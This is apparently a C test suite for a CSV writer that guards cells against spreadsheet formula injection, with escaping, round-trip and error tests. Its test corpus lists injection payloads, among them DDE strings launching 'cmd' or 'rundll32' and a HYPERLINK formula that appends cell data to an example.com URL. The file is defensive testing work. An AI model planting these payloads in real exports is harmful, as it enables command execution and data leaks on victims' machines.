/* Copyright 2026 The Perks authors
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "perks-csv-reader.h"
#include "perks-csv-writer.h"
#include "perks-drip-stream.h"
#include "perks-error.h"

/* What has been put into cells to make spreadsheets run it, and texts that only look like it. */
static const char *const corpus[] = {
  "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com/?\"&A1,\"x\")",
  "=IMPORTXML(\"http://example.com\",\"//a\")",
  "=IMPORTDATA(A1)", "=WEBSERVICE(\"http://example.com\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
  "=2+5+cmd|' /C calc'!A0",
  "=SUM(1+9)*cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=AND(2>1)",
  "=\"a\"&\"b\"", "==1", "=", "=\t1", "= 1",
  "+1", "+1+1", "+cmd|' /C calc'!A0", "+SUM(1)", "+49 30 1234567", "+", "-1", "-12.50", "-1+1",
  "-cmd|' /C calc'!A0", "-", "--", "-a",
  "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "@example", "\t=1+1", "\t", "\tx", "\r=1+1", "\r",
  "\n=1+1", "\n", "\r\n=1+1", "\nx",
  "＝1+1", "＋1", "－1", "＠A1", "＝", "'", "''", "'=1+1", "''=1+1", "'''", "'tis", "'-1", "'＝1", "'\t",
  " =1+1", "\"=1+1\"", ";=1+1",
  ",=1+1", "a=1", "1=1", "a\n=1+1", "a;=1", "a\t=1", "x,\"=1+1\"", "\"", "\"\"", "a\"b", "%0A=1",
  "|calc", "",
};

static gboolean
would_run (const char *cell)
{
  gunichar first = g_utf8_get_char (cell);

  return first != 0 &&
  (strchr ("=+-@\t\r\n", (int) MIN (first, 127)) != NULL || first == 0xFF1D || first == 0xFF0B ||
                        first == 0xFF0D || first == 0xFF20);
}

static char *
steal_text (GOutputStream *stream)
{
  g_assert_true (g_output_stream_write_all (stream, "", 1, NULL, NULL, NULL));
  g_assert_true (g_output_stream_close (stream, NULL, NULL));
  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (stream));
}

static void
test_new (void)
{
  g_autoptr (GOutputStream) stream = g_memory_output_stream_new_resizable ();
  PerksCsvWriter *writer = perks_csv_writer_new (stream);

  g_assert_finalize_object (writer);
}

static void
test_text (void)
{
  g_autoptr (GOutputStream) stream = g_memory_output_stream_new_resizable ();
  g_autoptr (PerksCsvWriter) writer = perks_csv_writer_new (stream);
  g_autofree char *text = NULL;

  perks_csv_writer_add_text (writer, "name");
  perks_csv_writer_add_text (writer, "a,b");
  perks_csv_writer_add_text (writer, "say \"x\"");
  g_assert_true (perks_csv_writer_end_row (writer, NULL, NULL));
  perks_csv_writer_add_text (writer, NULL);
  perks_csv_writer_add_number (writer, "-12.50");
  perks_csv_writer_add_text (writer, "-12.50");
  g_assert_true (perks_csv_writer_end_row (writer, NULL, NULL));
  perks_csv_writer_add_number (writer, NULL);
  g_assert_true (perks_csv_writer_end_row (writer, NULL, NULL));
  perks_csv_writer_add_text (writer, "x");
  perks_csv_writer_add_text (writer, "");
  perks_csv_writer_add_number (writer, "2026-10-05");
  g_assert_true (perks_csv_writer_end_row (writer, NULL, NULL));
  g_assert_true (perks_csv_writer_finish (writer, NULL, NULL));

  text = steal_text (stream);
  g_assert_cmpstr (text, ==,
                   "name,\"a,b\",\"say \"\"x\"\"\"\r\n\"\",-12.50,'-12.50\r\n\"\"\r\nx,,"
                   "2026-10-05\r\n");
}

static void
test_guard (void)
{
  g_assert_cmpuint (G_N_ELEMENTS (corpus), >=, 60);

  for (gsize i = 0; i < G_N_ELEMENTS (corpus); i++)
    {
      g_autofree char *guarded = perks_csv_guard (corpus[i]);
      g_autofree char *back = perks_csv_unguard (guarded);

      g_assert_false (would_run (guarded));
      g_assert_cmpstr (back, ==, corpus[i]);
      g_assert_cmpuint (strlen (guarded) - strlen (corpus[i]), ==, would_run (corpus[i]) ||
                        corpus[i][0] == '\'');
    }
}

/* What somebody else wrote with an apostrophe keeps it. */
static void
test_unguard (void)
{
  static const struct
  {
    const char *cell;
    const char *text;
  } cases[] = {
    { "'tis", "'tis" }, { "'=1", "=1" }, { "''", "'" }, { "'''", "''" },  { "'", "'" },
    { "=1", "=1" },     { "", "" },      { "x", "x" },  { "'' ", "' " },  { "'＋", "＋" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *text = perks_csv_unguard (cases[i].cell);

      g_assert_cmpstr (text, ==, cases[i].text);
    }
}

static char *
make_cell (GRand *chance)
{
  static const char *const pieces[] = { ",", ";", "\t", "\"", "\r", "\n", "\r\n", "=", "+", "-",
                                        "@", "'", "＝", "a", "B c", "12.50",
                                        " ", "é", "€", "𝄞", "日本", "\357\273\277", "\302\240", "\\",
                                        "sep=", "#", "|" };
  g_autoptr (GString) cell = g_string_new (NULL);

  if (g_rand_int_range (chance, 0, 4) == 0)
    return g_strdup (corpus[g_rand_int_range (chance, 0, G_N_ELEMENTS (corpus))]);

  for (int n = g_rand_int_range (chance, 0, 6); n > 0; n--)
    g_string_append (cell, pieces[g_rand_int_range (chance, 0, G_N_ELEMENTS (pieces))]);

  return g_strdup (cell->str);
}

/* The header settles what parts the fields, so it must be one that a report could have. */
static GPtrArray *
make_table (GRand *chance,
            guint  n_columns,
            guint  n_rows)
{
  GPtrArray *cells = g_ptr_array_new_with_free_func (g_free);

  for (guint i = 0; i < n_columns * n_rows; i++)
    g_ptr_array_add (cells, make_cell (chance));

  return cells;
}

static char *
write_table (GPtrArray *cells,
             guint      n_columns,
             gsize     *length)
{
  g_autoptr (GOutputStream) stream = g_memory_output_stream_new_resizable ();
  g_autoptr (PerksCsvWriter) writer = perks_csv_writer_new (stream);

  for (guint i = 0; i < cells->len; i++)
    {
      perks_csv_writer_add_text (writer, g_ptr_array_index (cells, i));
      if ((i + 1) % n_columns == 0)
        g_assert_true (perks_csv_writer_end_row (writer, NULL, NULL));
    }
  g_assert_true (perks_csv_writer_finish (writer, NULL, NULL));

  *length = g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (stream));
  return steal_text (stream);
}

static void
check_table (const char *text,
             gsize       length,
             gsize       most,
             GPtrArray  *cells,
             guint       n_columns)
{
  g_autoptr (GInputStream) stream = perks_drip_stream_new (text, length, most, -1);
  g_autoptr (PerksCsvReader) reader = perks_csv_reader_new (stream, "table.csv", NULL);
  g_autoptr (GError) error = NULL;
  guint number = 0;

  while (perks_csv_reader_next (reader, &error))
    {
      g_assert_cmpuint (perks_csv_reader_get_n_fields (reader), ==, n_columns);
      for (guint i = 0; i < n_columns; i++)
        {
          g_autofree char *cell = perks_csv_unguard (perks_csv_reader_get_field (reader, i));

          g_assert_cmpstr (cell, ==, g_ptr_array_index (cells, number++));
        }
    }

  g_assert_no_error (error);
  g_assert_cmpuint (number, ==, cells->len);
}

static void
test_round_trip (void)
{
  const char *given = g_getenv ("PERKS_SEED");
  guint32 seed = given != NULL ? (guint32) g_ascii_strtoull (given, NULL, 10) : 20261122;
  g_autoptr (GRand) chance = g_rand_new_with_seed (seed);

  g_test_message ("seed %u", seed);
  for (int i = 0; i < 3000; i++)
    {
      guint n_columns = (guint) g_rand_int_range (chance, 1, 6);
      g_autoptr (GPtrArray) cells = make_table (chance, n_columns,
                                                (guint) g_rand_int_range (chance, 1, 8));
      gsize length;
      g_autofree char *text = write_table (cells, n_columns, &length);

      check_table (text, length, (gsize) g_rand_int_range (chance, 1, 200), cells, n_columns);
    }
}

static void
test_full (void)
{
  g_autofree char *memory = g_malloc (100);
  g_autoptr (GOutputStream) stream = g_memory_output_stream_new (memory, 100, NULL, NULL);
  g_autoptr (PerksCsvWriter) writer = perks_csv_writer_new (stream);
  g_autoptr (GCancellable) cancellable = g_cancellable_new ();
  g_autoptr (GError) error = NULL;

  for (int i = 0; i < 50; i++)
    {
      perks_csv_writer_add_text (writer, "some text");
      g_assert_true (perks_csv_writer_end_row (writer, NULL, NULL));
    }
  g_assert_false (perks_csv_writer_finish (writer, NULL, &error));
  g_assert_error (error, PERKS_ERROR, PERKS_ERROR_NO_SPACE);
  g_clear_error (&error);

  g_cancellable_cancel (cancellable);
  g_assert_false (perks_csv_writer_finish (writer, cancellable, &error));
  g_assert_error (error, PERKS_ERROR, PERKS_ERROR_CANCELLED);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/csv-writer/new", test_new);
  g_test_add_func ("/csv-writer/text", test_text);
  g_test_add_func ("/csv-writer/guard", test_guard);
  g_test_add_func ("/csv-writer/unguard", test_unguard);
  g_test_add_func ("/csv-writer/round-trip", test_round_trip);
  g_test_add_func ("/csv-writer/full", test_full);

  return g_test_run ();
}
